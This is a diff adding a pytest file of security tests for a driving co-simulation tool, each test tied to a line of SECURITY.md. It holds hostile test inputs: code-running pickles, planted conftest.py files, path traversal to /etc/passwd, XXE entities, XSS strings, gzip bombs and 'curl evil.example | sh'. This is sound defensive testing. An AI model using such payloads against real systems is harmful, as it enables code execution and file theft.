@@ -1,0 +1,337 @@
+"""One test for each line of the lists in SECURITY.md, by the name that the line gives."""
+
+import gzip
+import html
+import json
+import os
+import pickle
+import re
+import xml.etree.ElementTree as ET
+from dataclasses import replace
+
+import numpy as np
+import pytest
+from places import ROOT, SUPPORT
+from scenes import platoon, scene
+
+from regents_cosim.cases.files import content_hash, find_cases, load_case, save_case
+from regents_cosim.cases.shipped import network_config, shipped
+from regents_cosim.cases.suite import SuiteWriter, load_cases
+from regents_cosim.checks.bounded import gunzip_bounded
+from regents_cosim.cli import run
+from regents_cosim.errors import InputError, LogError, PlannerError, RegentsError, SumoError
+from regents_cosim.evaluation.drives.driving import drive_each
+from regents_cosim.evaluation.suites.folders import check_suite, write_suite
+from regents_cosim.exports.export import export
+from regents_cosim.mirror.kept_programs import private_folder
+from regents_cosim.planners import find
+from regents_cosim.planners.aim_bev.weights_file import load_weights
+from regents_cosim.planners.find import find_attribute, make_planner
+from regents_cosim.reports.html import html_page
+from regents_cosim.reports.report import report_of
+from regents_cosim.scenario import AttackRecord
+from regents_cosim.sources.logs.unpickle import unpickle
+from regents_cosim.sources.sumo import record_sumo
+from regents_cosim.sources.sumo_config import SumoInput
+from regents_cosim.sources.sumo_net import read_road_map
+from regents_cosim.sources.xml_input import read_tree
+from regents_cosim.system import user_code
+
+pytest_plugins = ["pytester"]
+
+PAGE = ROOT / "SECURITY.md"
+RUN = "open('PWNED', 'w').close()\n"
+
+
+@pytest.fixture
+def suite(tmp_path, monkeypatch):
+    """A suite whose case names a command as its planner; the folder that we work in must stay as it is."""
+    monkeypatch.chdir(tmp_path)
+    made = platoon()
+    record = AttackRecord(made.id, "regents", "exec:touch PWNED", "no_collision", 1)
+    SuiteWriter(tmp_path / "suite", 0).add(replace(made, attack=record, original=made.tracks))
+    yield tmp_path / "suite"
+    assert not (tmp_path / "PWNED").exists()
+
+
+def test_each_line_of_the_page_has_its_test():
+    items = re.findall(r"^- .*(?:\n  .*)*", PAGE.read_text(), re.MULTILINE)
+    named = [re.findall(r"\(`(test_\w+)`\)", item) for item in items]
+    assert all(len(tests) == 1 for tests in named)
+    mine = {name for name in globals() if name.startswith("test_")} - {"test_each_line_of_the_page_has_its_test"}
+    assert sorted(test for tests in named for test in tests) == sorted(mine)
+
+
+# --- what you name ----------------------------------------------------------------------------
+
+
+def test_a_planner_that_is_named_runs_with_your_rights(tmp_path, monkeypatch):
+    monkeypatch.setattr("sys.path", [*user_code.sys.path])
+    (tmp_path / "mine.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\nclass P:\n"
+                                      "    reset = act = lambda self, given: None\n")  # fmt: skip
+    make_planner(f"{tmp_path}/mine.py:P")
+    assert (tmp_path / "ran").exists()
+
+
+def test_what_a_planner_answers_is_data(tmp_path, monkeypatch):
+    monkeypatch.setenv("REGENTS_BOMB", str(tmp_path / "PWNED"))
+    made = scene((0, 0, 10), (20, 0, 8), steps=6)
+    for name in ("Pickles", "PicklesInFrame"):
+        (drive,) = drive_each([made], f"{SUPPORT / 'hostile_planners.py'}:{name}")
+        assert "broke the protocol in `act` at step 1" in drive.error
+    assert not (tmp_path / "PWNED").exists()
+
+
+def test_no_module_of_a_suite_is_imported(suite, monkeypatch):
+    (suite / "evil.py").write_text(RUN)
+    monkeypatch.chdir(suite)
+    with pytest.raises(PlannerError, match="lies in the suite"):
+        make_planner("evil:P")
+    assert not (suite / "PWNED").exists()
+
+
+def test_an_entry_point_does_not_replace_a_planner_of_ours(monkeypatch):
+    class Theirs:
+        name, value = "idm", "evil:P"
+
+    monkeypatch.setattr(find, "entry_points", lambda group: [Theirs])
+    assert find_attribute("idm").__module__ == "regents_cosim.planners.idm"
+
+
+def test_a_cache_that_others_can_write_to_is_refused(tmp_path):
+    (tmp_path / "cache").mkdir()
+    (tmp_path / "cache").chmod(0o777)
+    with pytest.raises(RegentsError, match="cache"):
+        private_folder(tmp_path / "cache")
+
+
+# --- suites -----------------------------------------------------------------------------------
+
+
+def test_what_a_case_names_is_not_run(suite, capsys):
+    assert run(["replay", str(suite), "--ego", "planner", "--in", "mirror"]) == 2
+    assert "--planner" in capsys.readouterr().err
+
+
+def test_a_report_carries_nothing_of_a_case_that_runs(suite):
+    case = load_cases(suite)[0]
+    harm = "<script>hurt()<|script><img src=x onerror=hurt()>"
+    case = replace(case, id=harm, provenance=replace(case.provenance, command="curl evil.example | sh"))
+    page = html_page(report_of([case], {}, suite))
+    assert harm not in page
+    assert "<img" not in page
+    assert not re.search(r"(?:src|href)=[\"']?(?:https?:|//)", page)
+    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', page)
+    assert html.unescape(policy).startswith("default-src 'none'")
+
+
+def test_nothing_of_a_case_is_unpickled(suite):
+    class Harm:
+        def __reduce__(self):
+            return open, ("PWNED", "w")
+
+    np.savez(suite / "platoon0" / "tracks.npz", x=np.array([Harm()], object), allow_pickle=True)
+    with pytest.raises(RegentsError):
+        load_cases(suite)
+
+
+def test_pytest_does_not_run_code_of_a_suite(suite, pytester):
+    (suite / "conftest.py").write_text(RUN)
+    done = pytester.runpytest_subprocess(f"--regents-suite={suite}", "--regents-planner=idm")
+    done.stderr.fnmatch_lines(["*holds conftest.py*"])
+    assert not (pytester.path / "PWNED").exists()
+    assert [row.case for row in check_suite(suite) if row.problem] == ["conftest.py"]
+
+
+def test_a_name_does_not_lead_out_of_its_folder(suite):
+    header = suite / "platoon0" / "scenario.json"
+    for place, harm in (("id", "../precious"), ("map", {"road": "/etc/passwd", "sumo_net": None})):
+        text = header.read_text()
+        header.write_text(json.dumps(json.loads(text) | {place: harm}))
+        with pytest.raises(RegentsError, match="expected the plain name of a file or folder"):
+            load_case(suite / "platoon0")
+        header.write_text(text)
+
+
+def test_a_link_out_of_a_suite_is_not_read(suite, tmp_path):
+    (suite / "platoon0" / "tracks.npz").rename(tmp_path / "tracks.npz")
+    (suite / "platoon0" / "tracks.npz").symlink_to(tmp_path / "tracks.npz")
+    with pytest.raises(RegentsError, match="leads out of"):
+        load_cases(suite)
+
+
+@pytest.mark.parametrize("name", ["platoon0", "maps", ".lock"])
+def test_nothing_is_written_through_a_link(suite, tmp_path, name):
+    (tmp_path / "precious").mkdir()
+    if (suite / name).exists():
+        (suite / name).rename(suite / "moved")
+    (suite / name).symlink_to(tmp_path / "precious" / ("new" if name == ".lock" else ""))
+    with pytest.raises(RegentsError):
+        SuiteWriter(suite, 0).add(platoon())
+    assert not list((tmp_path / "precious").iterdir())
+
+
+def test_only_suites_are_replaced(suite, tmp_path):
+    (tmp_path / "thesis").mkdir()
+    (tmp_path / "thesis" / "thesis.txt").write_text("years of work")
+    with pytest.raises(RegentsError, match="is no suite"):
+        write_suite(tmp_path / "thesis", load_cases(suite), 0)
+    assert (tmp_path / "thesis" / "thesis.txt").exists()
+
+
+def test_only_regular_files_are_read(suite):
+    for name in ("tracks.npz", "scenario.json"):
+        (suite / "platoon0" / name).unlink()
+        os.mkfifo(suite / "platoon0" / name)
+        with pytest.raises(RegentsError):
+            load_cases(suite)
+
+
+def test_what_unpacks_to_too_much_is_refused(suite):
+    with pytest.raises(InputError):
+        gunzip_bounded(gzip.compress(bytes(1 << 22)), 1 << 20)
+    (road,) = (suite / "maps").iterdir()
+    road.write_bytes(gzip.compress(bytes(1 << 28)))
+    with pytest.raises(RegentsError):
+        load_cases(suite)
+
+
+@pytest.mark.parametrize("name", ["a&b\"<'>", "$ego", "]]>", "-->", "\U0001f600", "\u00a0x "])
+def test_exports_are_well_formed(tmp_path, name):
+    case = scene((0.0, 0.0, 10.0), (30.0, 0.0, 10.0), steps=11)
+    named = tuple(replace(agent, id=f"{name}{index}") for index, agent in enumerate(case.agents))
+    for to in ("commonroad", "fcd", "csv"):
+        for file in export(replace(case, agents=named, id="a&b <c>"), to, tmp_path / to):
+            if file.suffix == ".xml":
+                ET.parse(file)
+    for control in ("a\x1bb", "a\nb", "a\ufffe"):
+        with pytest.raises(RegentsError, match="control character"):
+            replace(case.agents[0], id=control)
+
+
+def test_the_terminal_is_told_no_control_characters(tmp_path, capsys):
+    assert run(["replay", str(tmp_path / ("\x1b[2J" + "n" * 200)), "--in", "mirror"]) == 2
+    said = capsys.readouterr().err
+    assert "\\x1b[2J" in said
+    assert "\x1b" not in said
+    assert run(["evaluate", str(tmp_path), "--planner", "x" * 10_000]) == 2
+    said = capsys.readouterr().err
+    assert said.count("\n") == 1
+    assert len(said) <= 501
+
+
+@pytest.mark.parametrize(
+    "harm",
+    [
+        '<e1Detector id="d" lane="LANE" pos="1" period="1" file="OUT"/>',
+        '<inductionLoop id="d" lane="LANE" pos="1" period="1" file="OUT"/>',
+        '<edgeData id="d" file="OUT"/>',
+        '<calibrator id="d" lane="LANE" pos="0" output="OUT"/>',
+        '<vType id="DEFAULT_VEHTYPE"><param key="has.ssm.device" value="true"/></vType>',
+        '<tlLogic id="t" type="actuated" programID="1"><param key="file" value="OUT"/></tlLogic>',
+        '<param key="device.ssm.file" value="OUT"/>',
+        '<include href="/etc/passwd"/>',
+        "&x;",
+    ],
+)
+def test_a_network_holds_roads_and_lights_alone(tmp_path, harm):
+    case = load_case(find_cases(shipped("scenarios") / "quickstart")[0])
+    assert case.road.sumo_net is not None
+    plain = gzip.decompress(case.road.sumo_net).decode()
+    (tmp_path / "OUT").write_text("precious")
+    harm = harm.replace("LANE", case.road.lanes[0].id).replace("OUT", str(tmp_path / "OUT"))
+    text = plain.replace("</net>", f"{harm}</net>")
+    if harm == "&x;":
+        text = text.replace("<net ", '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net ')
+    suite = tmp_path / "suite"
+    SuiteWriter(suite, 0).add(replace(case, road=replace(case.road, sumo_net=gzip.compress(text.encode()))))
+    assert run(["replay", str(suite)]) == 2
+    (tmp_path / "harm.net.xml").write_text(text)
+    with pytest.raises(RegentsError, match="SUMO network"):
+        read_road_map(tmp_path / "harm.net.xml")
+    (tmp_path / "plain.net.xml").write_text(plain)
+    read_road_map(tmp_path / "plain.net.xml")
+    assert (tmp_path / "OUT").read_text() == "precious"
+
+
+def test_the_hash_finds_changes_and_is_no_signature(suite):
+    header = suite / "platoon0" / "scenario.json"
+    changed = json.loads(header.read_text()) | {"target": [1.0, 2.0]}
+    header.write_text(json.dumps(changed))
+    with pytest.raises(RegentsError, match="content hash"):
+        load_case(suite / "platoon0")
+    (suite / "platoon0" / "scenario.json").write_text(
+        json.dumps(changed | {"hash": content_hash(replace(case_of(suite), target=(1.0, 2.0)))})
+    )
+    assert load_case(suite / "platoon0").target == (1.0, 2.0)
+
+
+def case_of(suite):
+    """The case that the suite of the fixture holds, made again."""
+    made = platoon()
+    record = AttackRecord(made.id, "regents", "exec:touch PWNED", "no_collision", 1)
+    return load_case(save_case(replace(made, attack=record, original=made.tracks), suite.parent / "again"))
+
+
+def test_pytest_is_given_a_suite_with_an_equals_sign(suite, pytester):
+    (suite / "pytest.ini").write_text("[pytest]\naddopts = --no-such-option\n")
+    done = pytester.runpytest_subprocess(f"--regents-suite={suite}", "--regents-planner=idm")
+    done.stderr.fnmatch_lines(["*holds pytest.ini*"])
+    done = pytester.runpytest_subprocess("--regents-suite", suite, "--regents-planner=idm")
+    done.stderr.fnmatch_lines(["*--no-such-option*"])
+    assert [row.case for row in check_suite(suite) if row.problem] == ["pytest.ini"]
+
+
+# --- logs, networks, weights ------------------------------------------------------------------
+
+
+def test_xml_with_a_document_type_is_refused(tmp_path):
+    (tmp_path / "a.xml").write_text('<!DOCTYPE a [<!ENTITY x "xxxxxxxxxx">]><a>&x;</a>')
+    with pytest.raises(LogError, match="document type"):
+        read_tree(tmp_path / "a.xml", "a log", LogError)
+
+
+def test_files_for_sumo_are_bounded_first(tmp_path):
+    (tmp_path / "a.xml").write_bytes(gzip.compress(b"<routes>" + b" " * (1 << 25) + b"</routes>"))
+    (tmp_path / "b.xml").write_text('<additional><include href="a.xml"/></additional>')
+    for files in ({"routes": (tmp_path / "a.xml",)}, {"additional": (tmp_path / "b.xml",)}):
+        with pytest.raises(SumoError, match=r"a\.xml holds more than"):
+            record_sumo(SumoInput(net=network_config("merge").parent / "merge.net.xml", **files))
+
+
+def test_pickles_of_logs_are_not_run(tmp_path, monkeypatch):
+    class Harm:
+        def __reduce__(self):
+            return open, ("PWNED", "w")
+
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises((RegentsError, ValueError)):
+        unpickle(pickle.dumps({"scene": Harm()}))
+    assert not (tmp_path / "PWNED").exists()
+
+
+def test_weights_are_numbers(tmp_path):
+    (tmp_path / "weights.safetensors").write_bytes(pickle.dumps({"layer": [1.0]}))
+    with pytest.raises(RegentsError, match="cannot be read as safetensors"):
+        load_weights(tmp_path / "weights.safetensors")
+
+
+def test_an_object_is_unpickled_where_it_drives_alone():
+    class Mine:
+        made_in = 0
+
+        def __init__(self):
+            self.process = os.getpid()
+
+        def __setstate__(self, state):
+            self.__dict__ |= {**state, "made_in": os.getpid()}
+
+        def reset(self, scene):
+            raise RuntimeError(f"from {self.process} in {self.made_in}")
+
+        def act(self, observation):
+            return None
+
+    (drive,) = drive_each([platoon()], Mine())
+    there = re.search(r"from (\d+) in (\d+)", drive.error)
+    assert int(there[1]) == os.getpid() != int(there[2])
